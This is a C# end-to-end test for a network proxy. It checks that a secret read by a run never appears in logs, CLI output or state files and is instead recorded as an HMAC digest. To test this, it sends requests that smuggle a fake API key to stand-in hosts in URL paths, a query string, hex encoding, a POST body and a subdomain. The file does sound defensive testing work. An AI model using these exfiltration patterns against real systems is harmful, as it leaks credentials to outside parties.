using System.Text;

namespace Sallyport.EndToEnd.Program.Evidence;

/// <summary>What a run that has read a secret says is in nothing that the node writes or prints.</summary>
public sealed class SecretAddressTests
{
    private const string Secret = "sk-live-9f3kQzT7Lw2Rm5";

    [Fact]
    public async Task A_secret_in_an_address_is_recorded_as_a_keyed_digest_whether_it_passes_or_not()
    {
        await using var upstream = await Upstream.StartAsync();
        var perimeter = upstream.Perimeter().Replace(
            "labels: [untrusted, social]", "labels: [secret]", StringComparison.Ordinal)
            + "content: { keep: [{ bodies: both, for: 30d }] }\n";
        await using var site = await Site.WithAsync(perimeter);
        var up = await site.UpAsync();
        var run = await site.OpenRunAsync("worker");
        using (var client = ProxyClient.Of(up, run))
        {
            // The upstream says the path again: so the run has read the secret by then.
            foreach (var (method, address) in ((HttpMethod, string)[])
            [
                (HttpMethod.Get, "http://wild.example/first"), (HttpMethod.Get, $"http://wild.example/{Secret}"),
                (HttpMethod.Get, $"http://tame.example/in?key={Secret}"),
                (HttpMethod.Get, $"http://tame.example/{Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Secret))}"),
                (HttpMethod.Post, $"http://tame.example/{Secret}"),
                (HttpMethod.Delete, $"http://tame.example/{Secret}"),
                (HttpMethod.Get, $"http://{Secret}.nowhere.example/"),
                (HttpMethod.Get, $"http://tame.example/%zz{Secret}"),
            ])
            {
                using var request = new HttpRequestMessage(method, new Uri(address));
                request.Content = method == HttpMethod.Post ? new StringContent(Secret) : null;
                using var response = await client.SendAsync(request);
                await response.Content.ReadAsByteArrayAsync();
            }
        }

        var log = await site.LogAsync();
        var printed = new List<(string, byte[])>();
        foreach (var words in (string[][])
        [
            ["log"], ["log", "--json"], ["status", "--json"], ["content", "list", "--json"],
            .. log.Where(entry => entry.GetProperty("kind").GetString() == "decision")
                .Select(entry => (string[])["why", $"{entry.GetProperty("epoch")}-{entry.GetProperty("position")}"]),
        ])
        {
            printed.Add((string.Join(' ', words), Encoding.UTF8.GetBytes((await site.RunAsync(words)).ToString())));
        }

        var ended = await up.StopAsync();
        printed.Add(("up", Encoding.UTF8.GetBytes($"{ended}{up.Child.Errors}")));
        var files = Directory.EnumerateFiles(site.State, "*", SearchOption.AllDirectories)
            .Select(path => (Path.GetRelativePath(site.State, path), File.ReadAllBytes(path))).ToList();
        var secrets = new Dictionary<string, string>(StringComparer.Ordinal) { ["read"] = Secret };
        Assert.Empty(SecretScan.Find(secrets, [.. files, .. printed]));

        // The same address has the same name, and another has another.
        var targets = log.Where(entry => entry.GetProperty("kind").GetString() == "decision")
            .Select(entry => entry.GetProperty("target").GetString()!).ToList(); // each has one
        Assert.Equal("http://wild.example/first", targets[0]);
        Assert.All(
            targets.Skip(1), target => Assert.Contains("[secret hmac-sha256:", target, StringComparison.Ordinal));
        Assert.Single(
            targets.Where(target => target.StartsWith("http://tame.example/[secret", StringComparison.Ordinal))
                .GroupBy(target => target, StringComparer.Ordinal),
            same => same.Count() > 1);
        Assert.Contains(targets, target => target.StartsWith("http://[secret hmac-sha256:", StringComparison.Ordinal));
        Assert.Equal(
            UnixFileMode.UserRead | UnixFileMode.UserWrite,
            File.GetUnixFileMode(Path.Combine(site.State, "digest.key")));

        await site.OutputAsync("ledger", "verify");
        var replayed = await site.RunAsync("policy", "replay", "--since", "1h");
        Assert.Contains("not replayable", replayed.ToString(), StringComparison.Ordinal);
    }
}
